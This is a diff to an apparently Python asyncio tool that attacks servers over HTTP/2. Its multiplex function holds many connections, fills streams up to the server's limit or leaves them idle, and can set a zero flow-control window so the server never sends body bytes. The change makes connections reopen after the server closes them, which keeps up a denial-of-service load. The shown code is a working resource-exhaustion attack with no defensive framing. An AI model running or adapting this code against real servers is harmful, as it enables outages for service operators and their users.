@@ -164,17 +164,21 @@ async def read_slowly(attack: Attack, seconds: float, connections: int, path: st
 async def multiplex(
     attack: Attack, seconds: float, connections: int, streams: int = 0, path: str = "/", window: int = 65_535
 ) -> None:
-    """HTTP/2 connections with so many streams at once, each with a request; none: they are idle.
+    """HTTP/2 connections with so many streams at once, or as many as the server allows; none: they are idle.
 
-    A window of 0 lets the server send no byte of any body.
+    Those that the server closes are opened again, save idle ones. A window of 0 lets it send no body's bytes.
     """
 
     async def one(number: int) -> None:
-        with contextlib.suppress(*NO_ANSWER, ProtocolError):
-            reader, writer = await attack.connect(number, protocol="h2")
-            with contextlib.closing(writer):
-                await _Multiplexed(attack, reader, writer, path, streams).run(window)
-        attack.closed()
+        while True:
+            with contextlib.suppress(*NO_ANSWER, ProtocolError):
+                reader, writer = await attack.connect(number, protocol="h2")
+                with contextlib.closing(writer):
+                    await _Multiplexed(attack, reader, writer, path, streams).run(window)
+            attack.closed()
+            if not streams:
+                return
+            await asyncio.sleep(PAUSE)
 
     await attack.hold(connections, one, seconds)
 
@@ -198,7 +202,7 @@ class _Multiplexed:
     async def run(self, window: int) -> None:
         self._h2.initiate_connection()
         self._h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: window})
-        self._ask()
+        self._writer.write(self._h2.data_to_send())
         while data := await self._reader.read(1 << 16):
             for event in self._h2.receive_data(data):
                 self._handle(event)
@@ -219,7 +223,7 @@ class _Multiplexed:
             self._attack.met["go away"] += 1
 
     def _ask(self) -> None:
-        """Fill the streams with requests: at first all, then as many as the server allows."""
+        """Fill the streams with requests, as many as the server allows."""
         allowed = min(self._streams, self._h2.remote_settings.max_concurrent_streams)
         while self._h2.open_outbound_streams < allowed:
             number = self._h2.get_next_available_stream_id()
